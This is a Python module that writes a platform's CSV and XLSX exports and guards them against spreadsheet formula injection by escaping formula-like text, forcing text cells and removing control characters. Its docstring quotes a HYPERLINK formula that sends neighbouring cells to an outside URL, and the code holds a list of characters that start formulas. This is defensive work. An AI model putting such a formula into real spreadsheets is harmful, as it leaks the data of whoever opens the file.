"""The platform's one writer of CSV and XLSX files: every export goes through it.

What a cell holds came from users (an organisation's name, a respondent's free text, a
measure's title) and is opened in Excel or LibreOffice by someone else. So:

- CSV: a text starting with = + - @ tab or CR is what a spreadsheet program runs as a formula
  ('=HYPERLINK("https://…?"&A1)' would send the neighbouring cells away); such a text gets a
  leading apostrophe, as OWASP advises, and Excel shows it as text. Plain numbers ("-3", "+4,5")
  are left alone: as a formula they are only the number. `read_table` takes the apostrophe off
  again, so an edited export can be imported.
- XLSX: a text is always written as a text cell, never as a formula (openpyxl would store a
  string starting with "=" as one).
- Both: control characters are dropped. XML, and so XLSX, cannot hold them at all: one in an
  organisation's name made every XLSX export of its district fail.
- CSV is semicolon-separated UTF-8 with a byte order mark, which German Excel opens with umlauts.
"""

import csv
import datetime
import os
import re
import tempfile
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.http import HttpResponse

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# C0 control characters other than tab, line feed and carriage return: XML 1.0 cannot hold them.
CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"


def clean_text(value: str) -> str:
    """`value` without the control characters no spreadsheet can hold."""
    return CONTROL_CHARACTERS.sub("", value)


def is_formula_like(value: str) -> bool:
    return value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value)


def csv_cell(value):
    """One CSV cell: formula-safe text, German decimal comma and dates."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "ja" if value else "nein"
    if isinstance(value, str):
        value = clean_text(value)
        return "'" + value if is_formula_like(value) else value
    if isinstance(value, Decimal | float):
        return str(value).replace(".", ",")
    if isinstance(value, datetime.datetime):
        return value.strftime("%d.%m.%Y %H:%M")
    if isinstance(value, datetime.date):
        return value.strftime("%d.%m.%Y")
    return value


def unescape_csv_cell(value: str) -> str:
    """The text an exported CSV cell stood for (the apostrophe of `csv_cell` taken off)."""
    if value.startswith("'") and is_formula_like(value[1:]):
        return value[1:]
    return value


class _Echo:
    def write(self, value):
        return value


def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """CSV lines for `rows` (the first one the headings), byte order mark first; streamable."""
    writer = csv.writer(_Echo(), delimiter=";", lineterminator="\r\n")
    yield "\ufeff"
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    return "".join(csv_lines(rows)).encode("utf-8")


class XlsxSheet:
    """A sheet of a write-only workbook that writes every text as text."""

    def __init__(self, workbook, title: str):
        self.sheet = workbook.create_sheet(title)

    def cell(self, value, *, bold=False):
        from openpyxl.cell import WriteOnlyCell
        from openpyxl.styles import Font

        if isinstance(value, str):
            value = clean_text(value)
            # openpyxl stores a text starting with "=" as a formula, any other as a text; only
            # those need a cell of their own (a cell object per value halves the speed).
            if not (bold or value.startswith("=")):
                return value
        elif isinstance(value, datetime.datetime) and value.tzinfo is not None:
            value = value.replace(tzinfo=None)  # Excel has no time zones
        if not (isinstance(value, str | datetime.date) or bold):
            return value
        cell = WriteOnlyCell(self.sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
        elif isinstance(value, datetime.datetime):
            cell.number_format = "DD.MM.YYYY HH:MM"
        elif isinstance(value, datetime.date):
            cell.number_format = "DD.MM.YYYY"
        if bold:
            cell.font = Font(bold=True)
        return cell

    def append(self, row: Iterable, *, bold=False) -> None:
        self.sheet.append([self.cell(value, bold=bold) for value in row])


def xlsx_file(sheets: Iterable[tuple[str, Iterable[Iterable]]]):
    """An XLSX workbook of (title, rows) sheets, the first row of each in bold, written row by
    row into a temporary file; returned opened for reading and already unlinked."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    for title, rows in sheets:
        sheet = XlsxSheet(workbook, title)
        for number, row in enumerate(rows):
            sheet.append(row, bold=number == 0)
    handle = tempfile.NamedTemporaryFile(suffix=".xlsx", delete=False)  # noqa: SIM115
    handle.close()
    try:
        workbook.save(handle.name)
        result = open(handle.name, "rb")  # noqa: SIM115
    finally:
        os.unlink(handle.name)
    return result


def table_response(headers, rows, *, filename_stem: str, file_format: str, sheet_title="Export"):
    """A download of one table as CSV or XLSX."""
    table = [list(headers), *rows]
    if file_format == "xlsx":
        with xlsx_file([(sheet_title, table)]) as handle:
            response = HttpResponse(handle.read(), content_type=XLSX_CONTENT_TYPE)
    elif file_format == "csv":
        response = HttpResponse(csv_bytes(table), content_type=CSV_CONTENT_TYPE)
    else:
        raise ValueError(f"unknown format {file_format!r}")
    response["Content-Disposition"] = f'attachment; filename="{filename_stem}.{file_format}"'
    return response


def dataset_response(dataset, *, filename_stem: str, file_format: str):
    """A download of a tablib.Dataset (an import-export resource's export) as CSV or XLSX."""
    return table_response(
        dataset.headers or [],
        dataset,
        filename_stem=filename_stem,
        file_format=file_format,
        sheet_title=(dataset.title or "Export")[:31],
    )
